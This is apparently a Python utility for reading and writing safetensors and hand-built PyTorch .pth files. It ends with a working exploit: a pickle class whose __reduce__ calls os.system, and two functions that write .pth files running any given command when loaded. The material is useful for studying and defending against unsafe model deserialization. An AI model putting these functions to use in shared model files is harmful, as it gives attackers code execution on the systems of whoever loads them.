"""Reads and writes safetensors, and writes PyTorch's .pth, with nothing but the standard library."""
import array
import collections
import json
import math
import pathlib
import pickle
import struct
import zipfile

Tensor = collections.namedtuple("Tensor", "dtype shape data")  # data: the raw little-endian bytes

FORMATS = {"F32": "f", "I64": "q", "I8": "b", "U8": "B", "I32": "i"}
STORAGES = {"F32": "FloatStorage", "I64": "LongStorage"}


def read_safetensors(path):
    """(metadata, {name: Tensor}) as the format's README says."""
    raw = pathlib.Path(path).read_bytes()
    (length,) = struct.unpack("<Q", raw[:8])
    header = json.loads(raw[8:8 + length])
    metadata = header.pop("__metadata__", {})
    start = 8 + length
    return metadata, {name: Tensor(entry["dtype"], entry["shape"],
                                   raw[start + entry["data_offsets"][0]:
                                       start + entry["data_offsets"][1]])
                      for name, entry in header.items()}


def write_safetensors(path, tensors):
    """{name: Tensor} as the format's README says."""
    header, data = {}, b""
    for name, tensor in tensors.items():
        header[name] = {"dtype": tensor.dtype, "shape": tensor.shape,
                        "data_offsets": [len(data), len(data) + len(tensor.data)]}
        data += tensor.data
    text = json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    pathlib.Path(path).write_bytes(struct.pack("<Q", len(text)) + text + data)


def values(tensor):
    return array.array(FORMATS[tensor.dtype], tensor.data)


def zeros_of_weights(tensors):
    """(zeros, weights) of the convolutions and the linear layer: weights of rank 2 and 4."""
    zeros = count = 0
    for name, tensor in tensors.items():
        if name.endswith(".weight") and len(tensor.shape) in (2, 4):
            numbers = values(tensor)
            zeros += numbers.count(0.0)
            count += len(numbers)
    return zeros, count


def _text(value):
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def _number(value):
    return b"J" + struct.pack("<i", value)


def _tuple(parts):
    return b"(" + b"".join(parts) + b"t"


def write_pth(path, tensors):
    """A state_dict as torch.save writes it: a zip of data.pkl and one file a storage."""
    program = b"\x80\x02ccollections\nOrderedDict\n)R("
    for index, (name, tensor) in enumerate(tensors.items()):
        count = math.prod(tensor.shape)
        strides = [math.prod(tensor.shape[k + 1:]) for k in range(len(tensor.shape))]
        storage = _tuple([_text("storage"), f"ctorch\n{STORAGES[tensor.dtype]}\n".encode(),
                          _text(str(index)), _text("cpu"), _number(count)]) + b"Q"
        program += _text(name) + b"ctorch._utils\n_rebuild_tensor_v2\n" + _tuple(
            [storage, _number(0), _tuple(map(_number, tensor.shape)),
             _tuple(map(_number, strides)), b"\x89", b"ccollections\nOrderedDict\n)R"]) + b"R"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", program + b"u.")
        for index, tensor in enumerate(tensors.values()):
            archive.writestr(f"archive/data/{index}", tensor.data)
        archive.writestr("archive/version", "3\n")


class Command:
    """What a pickle runs where it is loaded."""

    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        import os
        return os.system, (self.command,)


def write_evil_zip(path, command):
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps({"net": Command(command)}, 2))
        archive.writestr("archive/version", "3\n")


def write_evil_legacy(path, command):
    """The form before PyTorch 1.6: magic number, protocol, system, object, storage keys."""
    parts = [0x1950a86a20f9469cfc6c, 1001, {"little_endian": True}, {"net": Command(command)}, []]
    pathlib.Path(path).write_bytes(b"".join(pickle.dumps(part, 2) for part in parts))
